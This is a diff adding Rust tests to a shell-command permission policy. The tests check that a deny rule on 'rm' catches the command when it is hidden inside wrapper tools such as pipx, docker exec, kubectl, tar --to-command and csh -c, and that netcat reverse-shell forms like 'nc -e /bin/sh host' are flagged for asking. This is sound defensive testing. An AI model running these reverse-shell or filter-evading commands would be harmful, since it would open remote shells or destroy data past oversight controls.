@@ -125,6 +125,40 @@ fn a_deny_sees_through_wrappers() {
 }
 
 #[test]
+fn a_deny_sees_through_tools_that_run_others() {
+    let policy = Policy::deny(&["rm *"]);
+    let lines = [
+        "pipx run --spec y rm x",
+        "uvx --from y rm x",
+        "uv tool run rm x",
+        "rustup run nightly rm x",
+        "direnv exec . rm x",
+        "mise x node@20 -- rm x",
+        "mise exec -- rm x",
+        "tox exec -- rm x",
+        "npm explore y -- rm x",
+        "docker container exec c rm x",
+        "kubectl run y --image=z -- rm x",
+        "tar xf y --to-command='rm x'",
+        "tar -I 'rm x' -xf y",
+        "split --filter='rm x' y",
+        "csh -c 'rm x'",
+    ];
+    all(&policy, Verdict::Deny, &lines);
+    all(
+        &policy,
+        Verdict::Default,
+        &[
+            "nc -z localhost 80",
+            "just build",
+            "tar --odd -xf y",
+            "gh extension list",
+            "yarn workspaces list",
+        ],
+    );
+}
+
+#[test]
 fn a_command_that_cannot_be_seen_is_asked_about() {
     let policy = Policy::deny(&["rm *"]);
     let lines = [
@@ -140,6 +174,12 @@ fn a_command_that_cannot_be_seen_is_asked_about() {
         "eval '$x'",
         "ssh host 'x $y'",
         "env -S '\"a b\" c'",
+        "nc -e /bin/sh host 80",
+        "ncat --sh-exec x host",
+        "just -c x",
+        "proot -r y x",
+        "gh extension exec y",
+        "yarn workspaces foreach run x",
     ];
     all(&policy, Verdict::Ask, &lines);
     let deep = "env ".repeat(9) + "rm x";
